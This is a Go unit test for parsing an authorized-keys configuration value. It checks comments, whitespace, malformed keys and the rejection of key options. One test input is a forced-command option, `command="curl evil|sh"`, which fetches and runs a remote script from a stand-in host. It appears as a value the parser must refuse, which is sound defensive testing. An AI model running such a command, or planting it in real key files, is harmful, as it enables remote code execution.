package config

import (
	"crypto/ed25519"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/crypto/ssh"
)

func publicKeyLine(t *testing.T, seed byte) string {
	t.Helper()
	pub := ed25519.NewKeyFromSeed([]byte(strings.Repeat(string(rune('a'+seed)), 32))).Public()
	key, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(key)))
}

func TestAuthorizedKeys(t *testing.T) {
	t.Parallel()
	a, b := publicKeyLine(t, 0), publicKeyLine(t, 1)
	tests := []struct {
		name    string
		input   string
		want    []string
		wantErr string
	}{
		{name: "none", input: "", want: nil},
		{name: "two_with_comments", input: "# ops team\n" + a + " alice@laptop\n\n  " + b + "  \n", want: []string{a + " alice@laptop", b}},
		{name: "comment_with_spaces_is_one_word", input: a + " Alice Smith", want: []string{a + " Alice_Smith"}},
		{name: "options_refused", input: `command="curl evil|sh" ` + a, wantErr: "line 1 carries options"},
		{name: "not_a_key", input: a + "\nssh-ed25519 AAAAnot-base64", wantErr: "line 2 is not a public key"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg, err := Load(env(map[string]string{"authorized-keys": tt.input}), false)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), "input authorized-keys: "+tt.wantErr) {
					t.Fatalf("Load() error = %v, want one naming authorized-keys: %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, cfg.AuthorizedKeys); diff != "" {
				t.Errorf("AuthorizedKeys mismatch (-want +got):\n%s", diff)
			}
			wantPublic := strings.Join(append([]string{"START"}, tt.want...), "\n")
			if got := cfg.PublicKeys("START"); got != wantPublic {
				t.Errorf("PublicKeys() = %q, want %q", got, wantPublic)
			}
		})
	}
}
